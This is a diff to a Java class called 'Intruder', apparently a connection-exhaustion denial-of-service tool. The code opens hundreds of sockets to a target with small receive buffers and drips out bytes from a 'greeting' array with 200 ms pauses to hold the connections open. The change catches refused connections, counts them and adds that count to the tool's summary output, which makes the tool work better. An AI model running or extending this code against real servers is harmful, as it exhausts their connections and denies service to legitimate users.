@@ -65,15 +65,21 @@ final class Intruder {
         Deque<SocketChannel> open = new ArrayDeque<>();
         long begun = System.nanoTime();
         long opened = 0;
+        long turnedAway = 0;
         long most = 0;
         while (!isOver(begun, length)) {
             for (int i = 0; i < 500 && open.size() < number && !isOver(begun, length); i++) {
                 SocketChannel channel = SocketChannel.open();
-                channel.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
-                channel.socket().connect(target, CONNECT_MILLIS);
-                channel.configureBlocking(false);
-                open.add(channel);
-                opened++;
+                try {
+                    channel.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
+                    channel.socket().connect(target, CONNECT_MILLIS);
+                    channel.configureBlocking(false);
+                    open.add(channel);
+                    opened++;
+                } catch (IOException refused) {
+                    channel.close();
+                    turnedAway++;
+                }
             }
             most = Math.max(most, open.size());
             int turn = (int) (opened % greeting.length);
@@ -87,7 +93,7 @@ final class Intruder {
             }
             Thread.sleep(200);
         }
-        System.out.println("opened " + opened + ", at most " + most + " at a time, " + open.size() + " left");
+        System.out.println("opened " + opened + ", turned away " + turnedAway + ", at most " + most + " at a time, " + open.size() + " left");
     }
 
     private static boolean isAlive(SocketChannel channel, byte next) {
